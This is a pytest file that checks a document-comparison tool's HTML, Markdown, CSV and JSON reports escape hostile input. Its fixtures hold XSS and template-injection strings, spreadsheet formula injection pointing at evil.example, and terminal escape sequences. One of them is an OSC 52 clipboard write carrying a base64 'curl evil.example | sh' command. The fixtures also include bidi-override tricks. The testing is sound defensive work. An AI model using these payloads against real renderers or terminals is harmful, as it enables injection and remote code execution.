"""Document text is untrusted: no format may let a story add markup, structure or formulas."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tui.core.engine import compare_paths
from tui.core.model import Report
from tui.report import render
from tui.report.csv_report import defuse
from tui.report.markdown import escape

SOURCE = """\
# Breaking news <script>alert("x")</script> about the harbour deal.
The minister said the plan would cost $30 billion and take </td></tr></table> five years.
> A quoted line, with *stars* and _under_ and [a link](http://evil.example) here.
=HYPERLINK("http://evil.example","click") is what the spreadsheet showed last week.
Critics: <img src=x onerror=alert(1)> "onload=alert(2) rushed {{ config }} {% if 1 %}x{% endif %}.
- Officials declined to comment | on the record ~~ about `the` figures & details.
1. Numbered claims came from www.evil.example and mail@evil.example on Monday.
"""

TARGET = """\
# Breaking news <script>alert("y")</script> about the big harbour deal.
The minister said the plan would cost $30 billion and take </td></tr></table> six years.
> A quoted line, with *stars* and _under_ and [a link](http://evil.example) there.
+HYPERLINK("http://evil.example","click") is what the spreadsheet showed last month.
Critics: <img src=x onerror=alert(1)> "onload=alert(2) hurried {{ config }} {% if 1 %}x{% endif %}.
@Officials declined to comment | on the record ~~ about `the` figures & details.
-1. Numbered claims came from www.evil.example and mail@evil.example on Tuesday.
	Tabbed line that nobody wrote in the original story about the harbour.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Report:
    folder = tmp_path_factory.mktemp("hostile")
    # Blank lines keep each line a paragraph of its own, so each starts a passage.
    (folder / "a.txt").write_text(SOURCE.replace("\n", "\n\n"), encoding="utf-8")
    (folder / "b <script>.txt").write_text(TARGET.replace("\n", "\n\n"), encoding="utf-8")
    return compare_paths([str(folder / "a.txt"), str(folder / "b <script>.txt")], reference="a")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]


def test_html_shows_markup_as_text(hostile: Report) -> None:
    html = render(hostile, "html")
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&#34;onload=alert(2)" in html
    # Template syntax in a document is data, never evaluated.
    assert "{{ config }}" in html and "{% if 1 %}x{% endif %}" in html
    parser = _Tags()
    parser.feed(html)
    assert not {"script", "img", "iframe", "object"} & set(parser.tags)
    assert not [a for a in parser.attrs if a.startswith("on")]
    # Table structure intact: every passage row has its five cells.
    rows = html.split('<table class="passages">')[1].split("</table>")[0]
    for tr in rows.split("<tr")[2:]:
        if 'class="note' not in tr[:30]:
            assert tr.count("<td") == 5


def test_markdown_escapes_document_text(hostile: Report) -> None:
    md = render(hostile, "md")
    assert "<script>" not in md and "\\<script\\>" in md
    assert "\\[a link\\](http\\://evil.example)" in md
    assert "\\*stars\\*" in md and "\\_under\\_" in md
    assert "\\{\\{ config \\}\\}" in md
    for line in md.splitlines():
        # A document line never opens a heading, list or quote of its own.
        if line.startswith("> "):
            body = line[2:]
            assert not body.startswith(("#", ">", "- ", "+", "=", "1.", "\t", "    ")), line


def test_markdown_renders_without_injection(hostile: Report) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    try:
        md = markdown_it.MarkdownIt("gfm-like")  # tables, strikethrough, bare-URL links
    except Exception:  # linkify-it-py missing
        md = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
    out = md.render(render(hostile, "md"))
    parser = _Tags()
    parser.feed(out)
    assert not {"script", "img", "a", "h5", "h6", "hr", "pre", "iframe"} & set(parser.tags)
    assert parser.tags.count("h1") == 1
    assert "<blockquote>\n<blockquote>" not in out
    assert "<blockquote>\n<ul>" not in out and "<blockquote>\n<ol>" not in out
    assert "<blockquote>\n<h1>" not in out and "<blockquote>\n<pre>" not in out
    assert "&lt;script&gt;" in out


def test_markdown_escape_unit() -> None:
    assert escape("a*b*c") == "a\\*b\\*c"
    assert escape("snake_case stays readable") == "snake_case stays readable"
    assert escape("_emph_") == "\\_emph\\_"
    assert escape("<b>&amp;</b>") == "\\<b\\>\\&amp;\\</b\\>"
    assert escape("`code` | ~~x~~ $5 [l](u)") == "\\`code\\` \\| \\~\\~x\\~\\~ \\$5 \\[l\\](u)"


def test_csv_defuses_formulas(hostile: Report) -> None:
    text = render(hostile, "csv")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'+HYPERLINK") for c in cells)
    assert any(c.startswith("'@Officials") for c in cells)
    # Numbers we write ourselves are left as numbers.
    assert all(float(row[5]) >= 0 for row in rows[1:])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_defuse(value: str) -> None:
    assert defuse(value) == "'" + value
    assert defuse("plain " + value) == "plain " + value


def test_text_and_json_keep_exact_text(hostile: Report, tmp_path: Path) -> None:
    import json

    data = json.loads(render(hostile, "json"))
    texts = {d["id"]: d for d in data["documents"]}
    assert set(texts) == {"a", "b <script>"}
    assert "b <script>" in render(hostile, "text")


# --------------------------------------------------------- controls, escapes and bidi tricks

# Terminal escapes that act when a report is printed with ``cat``: OSC 0 retitles the window,
# OSC 8 plants a link, OSC 52 writes the clipboard, CSI 2J clears the screen. U+202E makes a
# viewer show "Bidi live" where the file says "Bidi evil".
OSC_TITLE = "\x1b]0;owned\x07"
OSC_LINK = "\x1b]8;;http://evil.example\x1b\\"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
BIDI_EVIL = "Bidi \u202eevil\u202c"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u2066", "\u200b", "\x00")


def _controlled(text: str) -> str:
    """A seed story with a terminal escape or bidi trick in several paragraphs."""
    paras = text.split("\n\n")
    tricks = [OSC_TITLE, OSC_LINK, OSC_CLIPBOARD, BIDI_EVIL + " ", "\x9b31m", "\u2066x\u2069"]
    for k, trick in enumerate(tricks):
        i = 1 + 2 * k
        if i < len(paras):
            paras[i] = trick + paras[i]
    return "\n\n".join(paras)


@pytest.fixture(scope="module")
def controlled(tmp_path_factory: pytest.TempPathFactory) -> Report:
    from .conftest import SEEDS

    folder = tmp_path_factory.mktemp("controls")
    seed = (SEEDS / "000_dcce54c3826141f5.txt").read_text(encoding="utf-8")
    copy = (SEEDS / "001_31fc123e83c1cc46.txt").read_text(encoding="utf-8")
    # The reference keeps its text; the copy carries the tricks in its text, its title (first
    # line) and its file name.
    (folder / "ref.txt").write_text(seed, encoding="utf-8")
    name = f"copy{OSC_TITLE}\u202e.txt"
    (folder / name).write_text(f"{BIDI_EVIL} {OSC_LINK}headline\n\n" + _controlled(copy), "utf-8")
    return compare_paths([str(folder / "ref.txt"), str(folder / name)], reference="ref")


@pytest.mark.parametrize("fmt", ["md", "csv", "html", "text", "json"])
def test_no_format_carries_raw_controls(controlled: Report, fmt: str) -> None:
    out = render(controlled, fmt)
    found = sorted({f"U+{ord(ch):04X}" for ch in out if ch in RAW})
    assert found == [], f"{fmt} report carries raw {found}"


@pytest.mark.parametrize("fmt", ["md", "csv", "html"])
def test_every_format_shows_controls_in_one_notation(controlled: Report, fmt: str) -> None:
    out = render(controlled, fmt)
    if fmt == "html":
        out = out.replace("&lt;", "<").replace("&gt;", ">").replace("&#34;", '"')
    if fmt == "md":
        out = re.sub(r"\\([\]\[\\<>])", r"\1", out)  # Markdown's own escapes of ] [ \ < >
    # Document text, the title and the file name: ESC as its control picture, the override as
    # its code point, the words where the file has them.
    assert "Bidi <U+202E>evil<U+202C>" in out
    assert "\u241b]0;owned\u2407" in out
    assert "\u241b]8;;http" in out
    assert "\u241b]52;c;" in out
    assert "<U+009B>31m" in out


def test_json_keeps_exact_text_but_escapes_it(controlled: Report) -> None:
    import json

    out = render(controlled, "json")
    data = json.loads(out)
    doc = next(d for d in controlled.documents if d.id != "ref")
    assert next(d for d in data["documents"] if d["id"] == doc.id)["title"] == doc.title
    assert BIDI_EVIL in doc.title and "\\u202e" in out and "\\u001b" in out
